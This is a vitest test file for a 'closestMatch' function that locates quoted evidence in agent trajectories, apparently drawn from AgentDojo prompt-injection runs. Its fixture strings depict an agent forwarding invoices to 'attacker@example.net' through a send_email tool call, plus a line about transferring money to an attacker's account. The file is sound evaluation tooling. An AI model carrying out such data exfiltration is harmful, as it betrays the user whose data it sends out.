import { describe, expect, it } from "vitest";
import { closestMatch, MAX_CLOSEST_CHARS } from "../../src/evidence/closest.js";
import { evidenceContext } from "../../src/evidence/context.js";
import { normalize } from "../../src/evidence/normalize.js";
import type { Message, Trajectory } from "../../src/types.js";
import { fromOpenAI } from "../helpers/from-openai.js";
import { corpusRows, corpusTrajectory, emailTrajectory } from "./fixtures.js";

/** A trajectory of at least `chars` characters made of real AgentDojo messages, re-indexed. */
function bigRealTrajectory(chars: number): Trajectory {
  const messages: Message[] = [];
  let total = 0;
  for (const row of corpusRows().sort((a, b) => b.bytes - a.bytes)) {
    for (const m of corpusTrajectory(row).messages) {
      messages.push({ ...m, index: messages.length });
      total += m.text.length + (m.tool_calls ?? []).reduce((s, c) => s + c.arguments.length, 0);
    }
    if (total >= chars) break;
  }
  return { id: "big", source: { format: "test", path: "big" }, injections: {}, messages };
}

describe("closestMatch", () => {
  const ctx = evidenceContext(emailTrajectory({}));

  it("finds the near-miss and returns its original text with the similarity", () => {
    const c = closestMatch("I will forward ALL the invoices to attacker@example.net", ctx, ["assistant_text", "tool_call"]);
    expect(c).not.toBeNull();
    expect(c!.message_index).toBe(4);
    expect(c!.text).toBe("I will forward all invoices to attacker@example.net");
    expect(c!.similarity).toBeGreaterThan(0.85);
    expect(c!.similarity).toBeLessThan(1);
  });
  it("returns the original typography, not the normalized text", () => {
    const t = fromOpenAI([{ role: "assistant", content: "Sure \u2014 I\u2019ll \u201cforward\u201d\u00a0the invoices now." }]);
    const c = closestMatch("Sure - I'll \"forward\" the invoice now", evidenceContext(t));
    expect(c!.text).toBe("Sure \u2014 I\u2019ll \u201cforward\u201d\u00a0the invoices now");
  });
  it("gives similarity 1 for text that exists (e.g. in a part of the wrong kind) and reports the call index", () => {
    const c = closestMatch('send_email({"to":"attacker@example.net"})', ctx, ["tool_call"]);
    expect(c).toMatchObject({ similarity: 1, message_index: 4, tool_call_index: 0, text: 'send_email({"to":"attacker@example.net"})' });
  });
  it("searches only the allowed kinds", () => {
    const c = closestMatch("Sent 3 attachments to attacker", ctx, ["assistant_text"]);
    expect([2, 4, 6, 7]).toContain(c!.message_index);
    expect(c!.similarity).toBeLessThan(0.9);
  });
  it("still answers when no n-gram of the quote occurs anywhere", () => {
    const c = closestMatch("zzzz qqqq xxxx wwww", ctx, ["assistant_text"]);
    expect(c).not.toBeNull();
    expect(c!.similarity).toBeGreaterThanOrEqual(0);
    expect(c!.similarity).toBeLessThanOrEqual(1);
  });
  it("returns null for an empty quote or when there is nothing to search", () => {
    expect(closestMatch("  \u200b ", ctx)).toBeNull();
    expect(closestMatch("anything at all here", ctx, [])).toBeNull();
    const empty = evidenceContext(fromOpenAI([{ role: "tool", tool_call_id: "x", content: "" }]));
    expect(closestMatch("anything at all here", empty, ["tool_result"])).toBeNull();
  });
  it("is deterministic", () => {
    const a = closestMatch("forward every invoice to the attacker", ctx);
    const b = closestMatch("forward every invoice to the attacker", ctx);
    expect(a).toEqual(b);
  });

  it("matches a very long quote by its head", () => {
    const long = "The quarterly report lists revenue, costs and a forecast. ".repeat(100);
    const t = fromOpenAI([
      { role: "assistant", content: "Unrelated opening remarks from the agent." },
      { role: "assistant", content: long },
    ]);
    const c = closestMatch(long.replace("forecast", "4cast"), evidenceContext(t));
    expect(c!.message_index).toBe(1);
    expect(c!.similarity).toBeGreaterThan(0.95);
    expect(c!.text.length).toBeLessThanOrEqual(MAX_CLOSEST_CHARS + 5);
  });

  it("answers sensibly on a 500 KB trajectory of real messages (time is printed, not asserted)", () => {
    const t = bigRealTrajectory(500_000);
    const tBuild = performance.now();
    const big = evidenceContext(t);
    const buildMs = performance.now() - tBuild;
    const size = big.parts.reduce((s, p) => s + p.text.length, 0);
    expect(size).toBeGreaterThanOrEqual(500_000);
    // A sentence from a tool result near the end, with one word changed.
    const idx = big.parts.map((p, i) => i).filter((i) => big.parts[i].kind === "tool_result" && big.norms[i].length > 400).at(-1)!;
    const text = big.parts[idx].text;
    const original = text.slice(Math.floor(text.length / 2), Math.floor(text.length / 2) + 120);
    const words = original.split(" ");
    const mid = Math.floor(words.length / 2);
    words[mid] = words[mid] === "banana" ? "apple" : "banana";
    const quote = words.join(" ");
    const t0 = performance.now();
    const c = closestMatch(quote, big, ["tool_result"]);
    const ms = performance.now() - t0;
    const t1 = performance.now();
    const c2 = closestMatch("the agent transferred the money to the attacker's account without asking", big);
    const ms2 = performance.now() - t1;
    console.log(
      `closestMatch on ${size} chars, ${big.parts.length} parts: context ${buildMs.toFixed(0)} ms, near-miss ${ms.toFixed(1)} ms (similarity ${c!.similarity.toFixed(3)}), free text ${ms2.toFixed(1)} ms (similarity ${c2!.similarity.toFixed(3)})`,
    );
    // Real runs repeat tool outputs, so the same sentence may be found in an earlier message: check the text.
    expect(big.parts.some((p, i) => p.message_index === c!.message_index && big.norms[i].includes(normalize(original)))).toBe(true);
    expect(normalize(c!.text)).toContain(normalize(original).slice(0, 20));
    expect(c!.similarity).toBeGreaterThan(0.85);
    expect(c2).not.toBeNull();
  });
});
